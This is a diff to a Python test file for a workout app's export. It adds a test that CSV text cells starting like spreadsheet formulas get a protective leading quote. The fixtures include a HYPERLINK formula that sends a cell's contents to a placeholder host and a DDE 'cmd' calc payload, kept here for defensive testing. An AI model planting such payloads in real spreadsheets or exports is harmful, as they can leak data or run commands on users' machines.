@@ -92,10 +92,10 @@ def test_one_workout_is_every_set_of_every_side(records: list[WorkoutRecord]) ->
 
 def test_names_with_commas_quotes_and_newlines_survive_the_round_trip() -> None:
     started = datetime(2025, 3, 1, 7, 0, tzinfo=UTC)
-    name = 'Dead bug, "banded"\nslowly'
+    name = 'Dead bug, "banded"\nslowly\r\nand\rcarefully'
     record = WorkoutRecord(
         id="abc",
-        routine=RoutineRef("=SUM(A1), [bold]not markup[/]"),
+        routine=RoutineRef("SUM(A1), [bold]not markup[/]"),
         started=started,
         ended=started + timedelta(minutes=5),
         status=WorkoutStatus.COMPLETED,
@@ -106,8 +106,46 @@ def test_names_with_commas_quotes_and_newlines_survive_the_round_trip() -> None:
     (row,) = csv.DictReader(io.StringIO(csv_text([record]), newline=""))
 
     assert row["exercise"] == name
-    assert row["workout"] == "=SUM(A1), [bold]not markup[/]"
+    assert row["workout"] == "SUM(A1), [bold]not markup[/]"
     assert row["band"] == "red, old"
+
+
+def test_a_text_cell_a_spreadsheet_would_run_starts_with_a_quote_in_csv_only() -> None:
+    """OWASP's advice against CSV injection: `=`, `+`, `-`, `@`, tab and CR start a formula."""
+    started = datetime(2025, 3, 1, 7, 0, tzinfo=UTC)
+    routine = '=HYPERLINK("http://x/?"&A1,"click")'
+    record = WorkoutRecord(
+        id="+1a2b",
+        routine=RoutineRef(routine),
+        started=started,
+        ended=started + timedelta(minutes=5),
+        status=WorkoutStatus.COMPLETED,
+        device="\tphone",
+        exercises=(
+            ExerciseRecord(1, "@SUM(1+1)", None, 2, 2, reps=(10, 0), band="-2+3"),
+            ExerciseRecord(2, "\rcmd|' /C calc'!A0", None, 1, 1, held_seconds=(0.0,)),
+            ExerciseRecord(3, "Bridge = hips up", None, 1, 1, reps=(8,), band="a-b"),
+        ),
+    )
+
+    rows = list(csv.DictReader(io.StringIO(csv_text([record]), newline="")))
+
+    assert [row["workout"] for row in rows] == ["'" + routine] * 4
+    assert [row["exercise"] for row in rows] == [
+        "'@SUM(1+1)", "'@SUM(1+1)", "'\rcmd|' /C calc'!A0", "Bridge = hips up"
+    ]  # fmt: skip
+    assert [row["band"] for row in rows] == ["'-2+3", "'-2+3", "", "a-b"]
+    assert {row["device"] for row in rows} == {"'\tphone"}
+    assert {row["workout_id"] for row in rows} == {"'+1a2b"}
+    # Numbers are not text cells: they are as they were.
+    assert [(row["reps"], row["seconds"]) for row in rows] == [
+        ("10", ""), ("0", ""), ("", "0.0"), ("8", "")
+    ]  # fmt: skip
+    # JSON keeps the exact text.
+    exported = record_to_json(record)
+    assert exported["routine"]["name"] == routine
+    assert exported["exercises"][0]["name"] == "@SUM(1+1)"
+    assert exported["device"] == "\tphone"
 
 
 def test_json_keeps_every_figure_with_iso_datetimes(records: list[WorkoutRecord]) -> None:
